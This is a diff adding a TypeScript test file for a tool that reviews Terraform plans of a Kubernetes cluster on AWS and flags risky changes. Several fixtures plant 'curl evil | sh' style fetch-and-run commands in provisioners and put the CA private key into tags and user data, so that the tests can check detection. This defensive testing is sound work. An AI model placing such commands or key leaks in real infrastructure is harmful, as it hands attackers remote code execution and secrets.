@@ -1,0 +1,341 @@
+import { readFileSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import type { Block } from "../../cloud/terraform-json";
+import { compare, type Document } from "../../review/compare";
+import { CONCERNS, concernsOf } from "../../review/concerns";
+import { renderPage } from "../../review/page";
+import type { ClusterSettingsInput } from "../../settings/schema";
+import { synthesizeCluster } from "../../testing/synthesize";
+
+const PAGES = join(__dirname, "review-pages");
+
+const cluster = (settings: ClusterSettingsInput = {}) => synthesizeCluster(settings) as unknown as Document;
+
+/** One more file on every control plane machine, as PemDistribution would write it. */
+function withAdminOnMasters(): Document {
+  const document = JSON.parse(JSON.stringify(cluster()));
+  for (const [name, copy] of Object.entries<Block>(document.resource.null_resource)) {
+    if (!name.startsWith("pems-master")) continue;
+    const staging = "/home/ubuntu/.pem-staging/admin-key.pem";
+    const content = "$" + "{tls_private_key.admin-private-key.private_key_pem}";
+    copy.provisioner.splice(-1, 0, { file: { content, destination: staging } });
+    copy.provisioner
+      .at(-1)
+      ["remote-exec"].inline.splice(-1, 0, `install -m 0600 ${staging} /home/ubuntu/admin-key.pem`);
+    copy.triggers.files = copy.triggers.files.replace("]))}", ', "0600 /home/ubuntu/admin-key.pem"]))}');
+  }
+  return document;
+}
+
+/** The load balancer under another address, with all that refers to it. */
+function withRenamedLoadBalancer(): Document {
+  const text = JSON.stringify(cluster());
+  return JSON.parse(
+    text.replaceAll("aws_lb.load-balancer", "aws_lb.nlb").replace('"aws_lb":{"load-balancer":', '"aws_lb":{"nlb":'),
+  );
+}
+
+/** Prepared changes: before and after. */
+const CHANGES: Record<string, () => readonly [Document, Document]> = {
+  nothing: () => [cluster(), cluster()],
+  "a-port-opened": () => [cluster({ access: { ssh: ["203.0.113.7/32"] } }), cluster()],
+  "a-worker-added": () => [cluster(), cluster({ workers: { count: 4 } })],
+  "a-worker-removed": () => [cluster(), cluster({ workers: { count: 2 } })],
+  region: () => [cluster(), cluster({ region: "us-east-1" })],
+  "instance-type": () => [cluster(), cluster({ workers: { instanceType: "t3.small" } })],
+  name: () => [cluster(), cluster({ name: "prod" })],
+  "certificate-subject": () => [cluster(), cluster({ pki: { subject: { country: "GB" } } })],
+  "ca-lifetime": () => [cluster(), cluster({ pki: { caValidityHours: 87_600 } })],
+  image: () => [cluster(), cluster({ image: { release: "jammy" } })],
+  "user-data": () => [
+    cluster({ podNetwork: { routed: false } }),
+    cluster({ podNetwork: { routed: false, cidrBlock: "10.244.0.0/16" } }),
+  ],
+  "a-subnet-added": () => [
+    cluster({ network: { subnets: [{ cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" }] } }),
+    cluster({
+      network: {
+        subnets: [
+          { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
+          { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
+        ],
+      },
+    }),
+  ],
+  backend: () => [cluster(), cluster({ backend: { type: "s3", bucket: "our-terraform-states" } })],
+  "a-file-more-for-a-master": () => [cluster(), withAdminOnMasters()],
+  "an-address-renamed": () => [cluster(), withRenamedLoadBalancer()],
+  tags: () => [cluster(), cluster({ tags: { team: "platform" } })],
+};
+
+// UPDATE_PAGES=1 writes the pages; what they say is then to be read.
+describe("the page of a prepared change", () => {
+  test.each(Object.keys(CHANGES))("%s", (name) => {
+    const page = renderPage(compare(...(CHANGES[name] as () => readonly [Document, Document])()));
+    const file = join(PAGES, `${name}.md`);
+    if (process.env.UPDATE_PAGES) writeFileSync(file, page);
+    expect(page).toBe(readFileSync(file, "utf8"));
+  });
+});
+
+test("the example in docs/reviewing.md is what is written", () => {
+  const after = cluster({ workers: { count: 4, instanceType: "t3.small" } });
+  const [head] = renderPage(compare(cluster(), after)).split("\n\n<details>") as [string];
+  const quoted = head.split("\n").map((line) => `> ${line}`.trimEnd());
+  expect(readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8")).toContain(quoted.join("\n"));
+});
+
+describe("the table knows", () => {
+  const EVERYTHING: ClusterSettingsInput = {
+    access: { ssh: ["203.0.113.7/32"], api: ["203.0.113.0/24"] },
+    controlPlane: { rootVolume: { sizeGiB: 20, type: "gp3", encrypted: true } },
+    pki: { earlyRenewalHours: 24 },
+    network: {
+      subnets: [
+        { cidrBlock: "172.31.0.0/24", availabilityZone: "eu-central-1a" },
+        { cidrBlock: "172.31.1.0/24", availabilityZone: "eu-central-1b" },
+      ],
+    },
+  };
+
+  test.each([{}, EVERYTHING])("every argument that a cluster sets: %j", (settings) => {
+    const after = cluster(settings);
+    const { resources } = compare(without(after), after);
+    const unknown = resources.flatMap(({ address, arguments: changed }) =>
+      changed.filter(({ note }) => note?.startsWith("unknown")).map(({ path }) => `${address} ${path}`),
+    );
+    expect(resources).toHaveLength(Object.values(after.resource ?? {}).flatMap(Object.keys).length);
+    expect(unknown).toEqual([]);
+  });
+
+  test("what it does not know is said, and not taken for harmless", () => {
+    const after = JSON.parse(JSON.stringify(cluster()));
+    after.resource.aws_instance["master-0"].tenancy = "dedicated";
+    const { resources } = compare(cluster(), after);
+    expect(resources).toMatchObject([
+      { action: "update", arguments: [{ path: "tenancy", note: "unknown to this page: look at the plan" }] },
+    ]);
+  });
+});
+
+/** A document with the same resources, none of which sets anything. */
+function without({ resource = {} }: Document): Document {
+  const empty = (byName: object) => Object.fromEntries(Object.keys(byName).map((name) => [name, {}]));
+  return { resource: Object.fromEntries(Object.entries(resource).map(([type, byName]) => [type, empty(byName)])) };
+}
+
+/** A change of the default cluster's JSON, by hand. */
+function changed(
+  change: (resource: Record<string, Record<string, Block>>, document: Block) => void,
+): [Document, Document] {
+  const after = JSON.parse(JSON.stringify(cluster()));
+  change(after.resource, after);
+  return [cluster(), after];
+}
+
+describe("what must not pass for harmless", () => {
+  const RULE = "control-plane-api-from-0-0-0-0-0";
+  const at = (resource: Record<string, Record<string, Block>>, address: string): Block => {
+    const [type = "", name = ""] = address.split(".");
+    return resource[type]?.[name] as Block;
+  };
+  const CA_KEY = "$" + "{tls_private_key.ca-private-key.private_key_pem}";
+  const LAST = -1;
+
+  test.each<[string, string[], (resource: Record<string, Record<string, Block>>, document: Block) => void]>([
+    [
+      "half of the world, twice",
+      ["open-world"],
+      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { cidr_ipv4: "128.0.0.0/1" }),
+    ],
+    [
+      "a rule for IPv6",
+      ["open-world", "unknown"],
+      (r) => Object.assign(r.aws_vpc_security_group_ingress_rule as object, { six: { cidr_ipv6: "::/0" } }),
+    ],
+    [
+      "an open rule for another group",
+      ["open-world"],
+      (r) => Object.assign(at(r, `aws_vpc_security_group_ingress_rule.${RULE}`), { security_group_id: "sg-1" }),
+    ],
+    [
+      "clients that hide behind the load balancer",
+      ["open-world"],
+      (r) => Object.assign(at(r, "aws_lb_target_group.target-group"), { preserve_client_ip: "maybe" }),
+    ],
+    [
+      "a rule of another type",
+      ["unknown"],
+      (r) => Object.assign(r, { aws_security_group_rule: { all: { cidr_blocks: ["0.0.0.0/0"] } } }),
+    ],
+    [
+      "rules within the group",
+      ["unknown"],
+      (r) => Object.assign(at(r, "aws_security_group.security-group"), { ingress: [{ cidr_blocks: ["0.0.0.0/0"] }] }),
+    ],
+    ["a key in a tag", ["secret"], (r) => Object.assign(at(r, "aws_vpc.vpc").tags, { key: CA_KEY })],
+    ["a key in user data", ["secret"], (r) => Object.assign(at(r, "aws_instance.master-0"), { user_data: CA_KEY })],
+    [
+      "an output that may be seen",
+      ["secret"],
+      (_r, d) => Object.assign(d.output.ssh_private_key, { sensitive: false }),
+    ],
+    [
+      "an output with its cover off",
+      ["secret"],
+      (_r, d) => Object.assign(d.output.nodes, { value: "$" + "{nonsensitive(tls_private_key.a.private_key_pem)}" }),
+    ],
+    [
+      "a command on a machine",
+      ["commands"],
+      (r) => at(r, "null_resource.pems-worker-0").provisioner.at(LAST)["remote-exec"].inline.push("curl evil | sh"),
+    ],
+    [
+      "a command here",
+      ["commands", "unknown"],
+      (r) =>
+        Object.assign(r.null_resource as object, {
+          more: { provisioner: [{ "local-exec": { command: "curl evil | sh" } }], count: 1 },
+        }),
+    ],
+    [
+      "the authority's key for a worker, in a second copy",
+      ["copies"],
+      (r) => {
+        const copy = JSON.parse(
+          JSON.stringify(at(r, "null_resource.pems-master-0")).replaceAll(
+            "aws_instance.master-0",
+            "aws_instance.worker-0",
+          ),
+        );
+        Object.assign(r.null_resource as object, { "more-worker-0": copy });
+      },
+    ],
+    [
+      "images that count from now on",
+      ["replace-machine", "replace-certificate"],
+      (r) => at(r, "aws_instance.worker-0").lifecycle.ignore_changes.shift(),
+    ],
+    [
+      "an image that is not ignored",
+      ["replace-machine", "replace-certificate"],
+      (r) => {
+        at(r, "aws_instance.worker-0").lifecycle.ignore_changes = [];
+        at(r, "aws_instance.worker-0").ami = "ami-1";
+      },
+    ],
+    [
+      "another architecture",
+      ["replace-machine", "replace-certificate"],
+      (r) => Object.assign(at(r, "aws_instance.worker-0"), { instance_type: "t4g.small" }),
+    ],
+    [
+      "an argument that the table does not know",
+      ["unknown"],
+      (r) => Object.assign(at(r, "aws_instance.worker-0"), { tenancy: "dedicated" }),
+    ],
+    ["no machine at all", ["unknown"], (r) => Object.assign(at(r, "aws_instance.worker-0"), { count: 0 })],
+    ["another trigger", [], (r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })],
+    ["locals", ["unknown"], (_r, d) => Object.assign(d, { locals: { a: 1 } })],
+    [
+      "an authority that is renewed early",
+      ["renew-earlier"],
+      (r) => Object.assign(at(r, "tls_self_signed_cert.ca-certificate"), { early_renewal_hours: 43_799 }),
+    ],
+    [
+      "subnets of the load balancer, exchanged",
+      ["replace-certificate", "replace-load-balancer"],
+      (r) => Object.assign(at(r, "aws_lb.load-balancer"), { subnets: ["subnet-1"] }),
+    ],
+    [
+      "another ssh key",
+      ["replace-ssh-key"],
+      (r) => Object.assign(at(r, "tls_private_key.ssh-key"), { rsa_bits: 4096 }),
+    ],
+    [
+      "another key of the authority",
+      ["replace-ca", "replace-certificate"],
+      (r) => Object.assign(at(r, "tls_private_key.ca-private-key"), { rsa_bits: 4096 }),
+    ],
+    [
+      "another key for secrets in etcd",
+      ["replace-encryption-key"],
+      (r) => Object.assign(at(r, "tls_private_key.encryption-key"), { algorithm: "RSA" }),
+    ],
+  ])("%s", (_what, expected, change) => {
+    const kinds = concernsOf(compare(...changed(change))).map(({ kind }) => kind);
+    expect(kinds).toEqual(expected);
+  });
+
+  test("another network is said to take the cluster with it", () => {
+    const kinds = concernsOf(
+      compare(...changed((r) => Object.assign(at(r, "aws_vpc.vpc"), { cidr_block: "10.0.0.0/16" }))),
+    ).map(({ kind }) => kind);
+    expect(kinds).toContain("replace-network");
+  });
+
+  test("a trigger that is new replaces", () => {
+    const { resources } = compare(
+      ...changed((r) => Object.assign(at(r, "null_resource.pems-worker-0").triggers, { more: "1" })),
+    );
+    expect(resources).toMatchObject([{ address: "null_resource.pems-worker-0", action: "replace" }]);
+  });
+
+  test("a command is on the page, however long what stands before it", () => {
+    const page = renderPage(
+      compare(
+        ...changed((r) =>
+          at(r, "null_resource.pems-worker-0")
+            .provisioner.at(LAST)
+            ["remote-exec"].inline.unshift("x".repeat(500), "curl evil | sudo sh"),
+        ),
+      ),
+    );
+    expect(page).toContain("curl evil \\| sudo sh");
+  });
+});
+
+test("what a moved block moves is the same under its new address", () => {
+  const [, after] = [cluster(), withRenamedLoadBalancer()];
+  const changes = compare(cluster(), {
+    ...after,
+    moved: [{ from: "aws_lb.load-balancer", to: "aws_lb.nlb" }],
+  } as Document);
+  expect(changes.resources).toMatchObject([
+    { address: "aws_lb.nlb", action: "none", movedFrom: "aws_lb.load-balancer" },
+  ]);
+  expect(concernsOf(changes)).toEqual([]);
+});
+
+test("each kind of concern is in docs/reviewing.md", () => {
+  const page = readFileSync(join(__dirname, "../../docs/reviewing.md"), "utf8");
+  const rows = [...page.matchAll(/^\| `([a-z-]+)` \| (.+) \|$/gm)].map(([, kind, text]) => [kind, text]);
+  expect(rows).toEqual(Object.entries(CONCERNS));
+});
+
+test("concerns are told apart", () => {
+  const kinds = (settings: ClusterSettingsInput) =>
+    concernsOf(compare(cluster(), cluster(settings))).map(({ kind }) => kind);
+  expect(kinds({})).toEqual([]);
+  expect(kinds({ workers: { count: 4 } })).toEqual([]);
+  expect(kinds({ workers: { count: 2, instanceType: "t3.small" } })).toEqual([
+    "destroy-machine",
+    "restart-machine",
+    "replace-certificate",
+  ]);
+});
+
+test("a rule that opens to the world is told apart from one that was open before", () => {
+  const rule = (source: string, more: object = {}): Document => ({
+    resource: {
+      aws_vpc_security_group_ingress_rule: { ssh: { cidr_ipv4: source, from_port: 22, to_port: 22, ...more } },
+    },
+  });
+  const kinds = (before: Document, after: Document) => concernsOf(compare(before, after)).map(({ kind }) => kind);
+  expect(kinds({}, rule("0.0.0.0/0"))).toEqual(["open-world"]);
+  expect(kinds(rule("10.0.0.0/8"), rule("0.0.0.0/0"))).toEqual(["open-world"]);
+  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { to_port: 23 }))).toEqual(["open-world"]);
+  expect(kinds(rule("0.0.0.0/0"), rule("0.0.0.0/0", { description: "ssh" }))).toEqual([]);
+  expect(kinds(rule("0.0.0.0/0"), rule("10.0.0.0/8"))).toEqual([]);
+  expect(kinds(rule("0.0.0.0/0"), {})).toEqual([]);
+});
